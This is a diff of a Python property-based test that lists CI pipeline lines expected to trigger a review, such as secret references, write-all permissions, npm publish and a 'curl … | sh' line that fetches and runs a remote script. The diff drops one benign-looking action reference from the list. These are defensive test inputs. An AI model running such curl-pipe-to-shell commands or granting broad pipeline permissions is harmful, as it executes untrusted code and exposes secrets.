@@ -63,7 +63,7 @@ def test_an_image_is_the_program_it_is_named_after(image: str, program: str, com
 
 @given(
     st.sampled_from(
-        ["secrets.TOKEN", "permissions: write-all", "npm publish", "curl https://x.io/i.sh | sh", "uses: a/b@v1"]
+        ["secrets.TOKEN", "permissions: write-all", "npm publish", "curl https://x.io/i.sh | sh"]
     )
 )
 def test_one_line_that_reaches_out_makes_a_pipeline_ask(line: str) -> None:
